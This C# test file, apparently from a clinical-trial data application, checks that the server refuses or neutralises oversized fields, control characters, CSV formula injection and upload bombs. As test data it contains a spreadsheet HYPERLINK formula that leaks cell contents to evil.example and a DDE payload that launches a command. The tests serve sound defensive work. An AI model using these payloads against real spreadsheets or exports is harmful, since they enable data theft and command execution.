using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Xml;
using Lutetia.Intake;
using Lutetia.Intake.Tests;
using Lutetia.Storage;
using Microsoft.EntityFrameworkCore;

namespace Lutetia.Web.Tests;

/// <summary>
/// Input limits and output safety (docs/security.md), performed over HTTP against the running application: values longer than
/// their column, text that breaks the outputs, formulas in CSV meant for people, upload bombs.
/// </summary>
public abstract class InputSafetyTests(AppFixture fixture)
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    private static async Task<string> Post(WebClient client, string path, string handler, Dictionary<string, string> fields)
    {
        var response = await client.PostFormAsync(path, handler, fields);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync(Cancel));
    }

    private static int AuditCount(LutetiaAppFactory app)
    {
        using var db = app.OpenDatabase();
        return db.AuditEntries.Count();
    }

    [Fact]
    public async Task A_20_MB_reason_is_refused_by_the_server_and_nothing_is_stored()
    {
        var app = await fixture.AppAsync();
        using var client = await WebClient.SignedInAsync(app, Accounts.Coordinator);
        var before = AuditCount(app);
        var body = new { cells = new Dictionary<string, string> { ["M1:diameter_mm"] = "33.5" }, reason = new string('r', 20 << 20) };

        var response = await client.PostJsonAsync("/patients/P1/reads/R2/measurements", body, await client.TokenAsync("/patients"));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.Contains("the reason has 20,971,520 characters; at most 500 are kept", await response.Content.ReadAsStringAsync(Cancel), StringComparison.Ordinal);
        Assert.Equal(before, AuditCount(app));
        using var db = app.OpenDatabase();
        Assert.DoesNotContain(db.Measurements.AsNoTracking().Where(m => m.ReadId == "R2").ToList(), m => m.DiameterMm == 33.5m);
    }

    [Theory]
    [InlineData(501, "the reason has 501 characters; at most 500 are kept")]
    [InlineData(-1, "begins with \"=\", which a spreadsheet reads as the start of a formula")]
    public async Task A_reason_over_500_characters_or_starting_a_formula_is_a_field_message_on_the_form(int length, string message)
    {
        var app = await fixture.AppAsync();
        using var client = await WebClient.SignedInAsync(app, Accounts.Coordinator);
        var before = AuditCount(app);
        var form = HtmlForm.Fields(await client.GetPageAsync("/patients/P2"), CaseReportFormTests.PageForm);
        form[form.Keys.Single(k => k.EndsWith(":ecog", StringComparison.Ordinal) && !k.Contains("/was:", StringComparison.Ordinal))] = "2";
        form["reason"] = length < 0 ? Hyperlink : new string('r', length);

        var response = await client.PostRawAsync("/patients/P2", form);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains(message, WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync(Cancel)), StringComparison.Ordinal);
        Assert.Equal(before, AuditCount(app));
    }

    [Theory]
    [InlineData(201, "the centre's name: name has 201 characters; at most 200 are allowed")]
    [InlineData(10 << 20, null)]
    public async Task A_centre_name_longer_than_its_column_is_refused_on_the_centres_page(int length, string? message)
    {
        var app = await fixture.AppAsync();
        using var coordinator = await WebClient.SignedInAsync(app, Accounts.Coordinator);
        var id = $"L{length % 1000}";
        var response = await coordinator.PostFormAsync("/centres", "add-centre", new() { ["center_id"] = id, ["name"] = new string('n', length) });

        // A 10 MB field is over the form reader's own limit: refused before the page runs, never a server error.
        Assert.True(response.StatusCode is HttpStatusCode.OK or HttpStatusCode.BadRequest, response.StatusCode.ToString());
        if (message is not null)
            Assert.Contains(message, WebUtility.HtmlDecode(await response.Content.ReadAsStringAsync(Cancel)), StringComparison.Ordinal);
        using var db = app.OpenDatabase();
        Assert.False(db.Centers.Any(c => c.CenterId == id));
    }

    [Theory]
    [InlineData("Lyon\u0001Sud", "control character")]
    [InlineData("Lyon\u001BSud", "control character")]
    [InlineData(Hyperlink, "a spreadsheet reads as the start of a formula")]
    [InlineData("=cmd|' /C calc'!A0", "a spreadsheet reads as the start of a formula")]
    public async Task A_centre_name_breaking_the_text_rule_is_refused_when_added_or_renamed(string name, string message)
    {
        var app = await fixture.AppAsync();
        using var coordinator = await WebClient.SignedInAsync(app, Accounts.Coordinator);

        var added = await Post(coordinator, "/centres", "add-centre", new() { ["center_id"] = "T9", ["name"] = name });
        var renamed = await Post(coordinator, "/centres", "rename-centre", new() { ["center_id"] = "C2", ["name"] = name, ["reason"] = "test" });

        Assert.Contains(message, added, StringComparison.Ordinal);
        Assert.Contains(message, renamed, StringComparison.Ordinal);
        using var db = app.OpenDatabase();
        Assert.False(db.Centers.Any(c => c.CenterId == "T9"));
        Assert.Equal("Nantes", db.Centers.AsNoTracking().Single(c => c.CenterId == "C2").Name);
    }

    [Theory]
    [InlineData(Hyperlink, "begins with \"=\", which a spreadsheet reads as the start of a formula")]
    [InlineData("Activity\u0001?", "control character")]
    public async Task A_query_text_breaking_the_text_rule_is_refused_and_no_query_is_raised(string text, string message)
    {
        var app = await fixture.AppAsync();
        using var coordinator = await WebClient.SignedInAsync(app, Accounts.Coordinator);
        int queries;
        using (var db = app.OpenDatabase())
            queries = db.Set<Lutetia.Storage.Workflow.FieldQueryRow>().Count();

        var page = await Post(coordinator, "/patients/P1/queries/new", "raise",
            new() { ["record"] = "prrt_cycles|P1/1", ["field"] = "activity_gbq", ["text"] = text });

        Assert.Contains(message, page, StringComparison.Ordinal);
        using var check = app.OpenDatabase();
        Assert.Equal(queries, check.Set<Lutetia.Storage.Workflow.FieldQueryRow>().Count());
    }

    [Fact]
    public async Task A_formula_or_control_characters_stored_before_are_neutralised_in_every_export()
    {
        await using var app = await LutetiaAppFactory.StartAsync(fixture.Provider);
        using (var db = app.OpenDatabase())
        {
            // As an older version stored them: past every check of today's pages and imports.
            db.Database.ExecuteSqlRaw("UPDATE centers SET name = {0} WHERE center_id = 'C1'", Hyperlink);
            db.Database.ExecuteSqlRaw("UPDATE centers SET name = {0} WHERE center_id = 'C2'", "Nan\u0001tes\u0007");
        }
        using var coordinator = await WebClient.SignedInAsync(app, Accounts.Coordinator);

        var cohort = await Files(await coordinator.GetAsync("/export/cohort.zip"));
        var r = await Files(await coordinator.GetAsync("/export/r.zip"));
        foreach (var centers in (string[])[cohort["centers.csv"], r["centers.csv"]])
        {
            Assert.Contains("C1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\"", centers, StringComparison.Ordinal);
            Assert.DoesNotContain(",\"=HYPERLINK", centers, StringComparison.Ordinal);
        }

        var xlsx = await coordinator.GetAsync("/export/cohort.xlsx");
        Assert.Equal(HttpStatusCode.OK, xlsx.StatusCode);
        using (var workbook = DocumentFormat.OpenXml.Packaging.SpreadsheetDocument.Open(new MemoryStream(await xlsx.Content.ReadAsByteArrayAsync(Cancel)), false))
            Assert.Contains("Nan\uFFFDtes\uFFFD", workbook.WorkbookPart!.WorksheetParts.SelectMany(p => p.Worksheet.Descendants<DocumentFormat.OpenXml.Spreadsheet.Text>()).Select(t => t.Text));
        var odm = await Files(await coordinator.GetAsync("/export/odm.zip"));
        var document = new XmlDocument();
        document.LoadXml(odm["odm.xml"]);
        Assert.Contains("Name=\"Nan\uFFFDtes\uFFFD\"", odm["odm.xml"], StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_formula_in_the_audit_trail_is_neutralised_in_audit_csv_and_numbers_stay_numbers()
    {
        await using var app = await LutetiaAppFactory.StartAsync(fixture.Provider);
        using (var db = app.OpenDatabase())
        {
            // An entry as an older version could write it (the reason rule did not exist): appended past the chain's end.
            db.Database.ExecuteSqlRaw(
                "INSERT INTO audit_entries (id, at_utc, \"user\", action, entity, entity_key, patient_id, field, old_value, new_value, reason, previous_hash, hash) " +
                "VALUES (1000000, {0}, 'legacy', 'update', 'patients', 'P1', 'P1', 'ecog', {1}, {2}, {3}, {4}, {4})",
                new DateTime(2020, 1, 1, 0, 0, 0, DateTimeKind.Utc), "-1.5", "@SUM(A1:A9)", Hyperlink, new string('0', 64));
        }
        using var coordinator = await WebClient.SignedInAsync(app, Accounts.Coordinator);

        var csv = await (await coordinator.GetAsync("/patients/P1/audit.csv")).Content.ReadAsStringAsync(Cancel);

        var line = csv.Split('\n').Single(l => l.StartsWith("1000000,", StringComparison.Ordinal));
        Assert.Contains(",ecog,-1.5,'@SUM(A1:A9),\"'=HYPERLINK(", line, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Upload_bombs_are_refused_with_a_message_and_import_nothing()
    {
        await using var app = await LutetiaAppFactory.StartAsync(fixture.Provider, empty: true);
        using (var db = app.OpenDatabase())
            await Accounts.Add(db, Accounts.Coordinator, LutetiaRole.Coordinator, null);
        using var coordinator = await WebClient.SignedInAsync(app, Accounts.Coordinator);
        using var folder = new TemporaryFolder();
        using var nameCohort = new TemporaryFolder();
        using var lineCohort = new TemporaryFolder();
        using var hugeNameCohort = new TemporaryFolder();
        var longName = Zip(folder, "long-name.zip", new TestCohort().Set("centers", 2, "name", new string('n', 300_000)).WriteTo(nameCohort));
        var hugeName = Zip(folder, "huge-name.zip", new TestCohort().Set("centers", 2, "name", new string('n', 10 << 20)).WriteTo(hugeNameCohort));
        var longLine = Zip(folder, "long-line.zip", HostileFiles.LongLineCohort(lineCohort, 200L << 20));
        (string File, string Expected)[] cases =
        [
            (HostileFiles.ZipBomb(folder, IntakeLimits.MaximumExtractedBytes + 1), "centers.csv expands to 268,435,457 bytes"),
            (HostileFiles.LyingZipBomb(folder, 64L << 20, claimed: 1000), "Nothing was imported"),
            (HostileFiles.SharedStringsBomb(folder, count: 40_000, length: 1000), "more than 32,000,000 characters"),
            (longLine, "longer than 1,048,576 bytes"),
            (longName, "name has 300,000 characters; at most 200 are allowed"),
            (hugeName, "centers.csv row 2: the row is longer than 1,048,576 bytes"),
        ];
        foreach (var (file, expected) in cases)
        {
            var page = WebUtility.HtmlDecode(await (await Upload(coordinator, file)).Content.ReadAsStringAsync(Cancel));
            Assert.True(page.Contains(expected, StringComparison.Ordinal), $"{Path.GetFileName(file)}: {page}");
            Assert.DoesNotContain("   at ", page, StringComparison.Ordinal);
            Assert.DoesNotContain(new string('n', 1000), page, StringComparison.Ordinal);
        }
        using (var db = app.OpenDatabase())
            Assert.False(db.Centers.Any() || db.Patients.Any());
    }

    private static string Zip(TemporaryFolder folder, string name, string cohort)
    {
        var path = folder.File(name);
        ZipFile.CreateFromDirectory(cohort, path, CompressionLevel.Fastest, includeBaseDirectory: false);
        foreach (var file in Directory.EnumerateFiles(cohort))
            File.Delete(file);
        return path;
    }

    private static async Task<HttpResponseMessage> Upload(WebClient client, string path)
    {
        using var form = new MultipartFormDataContent
        {
            { new StringContent("import"), "_handler" },
            { new StringContent(await client.TokenAsync("/import")), "__RequestVerificationToken" },
        };
        form.Add(new StreamContent(File.OpenRead(path)), "cohort", Path.GetFileName(path));
        return await client.PostContentAsync("/import", form);
    }

    private static async Task<Dictionary<string, string>> Files(HttpResponseMessage response)
    {
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var archive = new ZipArchive(await response.Content.ReadAsStreamAsync(Cancel), ZipArchiveMode.Read);
        var files = new Dictionary<string, string>(StringComparer.Ordinal);
        foreach (var entry in archive.Entries)
        {
            using var reader = new StreamReader(entry.Open());
            files[entry.FullName] = await reader.ReadToEndAsync(Cancel);
        }
        return files;
    }
}
